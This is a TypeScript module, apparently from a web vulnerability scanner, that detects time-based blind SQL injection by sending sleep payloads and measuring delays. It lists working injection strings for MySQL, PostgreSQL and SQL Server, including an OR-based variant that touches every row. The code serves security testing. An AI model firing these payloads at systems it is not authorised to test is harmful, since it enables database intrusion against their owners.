// Checks for SQL injection by time alone: the database sleeps as long as it is asked to.

import type { PointCheck } from '../check.ts'
import { isSettled, settle } from '../found.ts'
import { textValue } from '../probing.ts'
import { mayNameAccounts } from '../resets.ts'
import { waitsAsAsked } from '../timing.ts'
import { sqlInjection } from './sql-injection.ts'

/** Tried for every row, and so where the operation reads alone. */
const joinedByOr = (text: string, s: number): string => `${text}' OR (SELECT 1 FROM (SELECT SLEEP(${s}))x)='1`

type Payload = readonly [engine: string, of: (text: string, seconds: number) => string]

/** Each payload makes one family of databases sleep, within a text or a number. */
const payloads: readonly Payload[] = [
  ['MySQL', (text, s) => `${text}' AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)-- -`],
  ['MySQL', (text, s) => `${text} AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)-- -`],
  ['MySQL', (text, s) => `${text}" AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)-- -`],
  ['MySQL', joinedByOr],
  // what is inserted, or set, is a sum; as a condition it meets no row, since nothing compares with NULL
  ['MySQL', (_, s) => `'+(SELECT NULL FROM (SELECT SLEEP(${s}))x)+'`],
  ['PostgreSQL', (text, s) => `${text}'||(SELECT pg_sleep(${s}))||'`],
  ['PostgreSQL', (text, s) => `${text} AND (SELECT 1 FROM pg_sleep(${s}))=1`],
  ['PostgreSQL', (text, s) => `${text}' AND (SELECT 1 FROM pg_sleep(${s}))=1-- -`],
  ['SQL Server', (text, s) => `${text}'; WAITFOR DELAY '0:0:${s}'-- -`],
  ['SQL Server', (text, s) => `${text}; WAITFOR DELAY '0:0:${s}'-- -`],
]

/** The same that leave standing what comes behind the value, such as the condition that tells which rows are changed. */
const whole: readonly Payload[] = [
  ['MySQL', (text, s) => `${text}' AND (SELECT 1 FROM (SELECT SLEEP(${s}))x) AND '1'='1`],
  ['MySQL', (text, s) => `${text} AND (SELECT 1 FROM (SELECT SLEEP(${s}))x)`],
  ['MySQL', (text, s) => `${text}" AND (SELECT 1 FROM (SELECT SLEEP(${s}))x) AND "1"="1`],
  ['PostgreSQL', (text, s) => `${text}' AND (SELECT 1 FROM pg_sleep(${s}))=1 AND '1'='1`],
  ...payloads.filter(([, of]) => of !== joinedByOr && !of('', 1).endsWith('-- -')),
]

export const sqlTime: PointCheck = {
  kind: 'point',
  id: 'sql-injection-time',
  ...sqlInjection,
  async probe(point, operation, context) {
    if (isSettled(89, operation, point, context)) return null
    const mayWiden = operation.kind === 'read' && mayNameAccounts(operation, context)
    const mayCutOff = operation.kind === 'read' || context.profile === 'DEEP'
    for (const [engine, of] of mayCutOff ? payloads : whole) {
      if (of === joinedByOr && !mayWiden) continue
      const delayed = await waitsAsAsked((seconds) => of(textValue(point), seconds), point, operation, context)
      if (!delayed) continue
      settle(89, operation, point, context)
      return {
        detail: `The response is delayed by as long as the value tells ${engine} to sleep: ${delayed.seconds} s, half of it and nothing, in alternation.`,
        proof: [],
        exchange: delayed.exchange,
      }
    }
    return null
  },
}
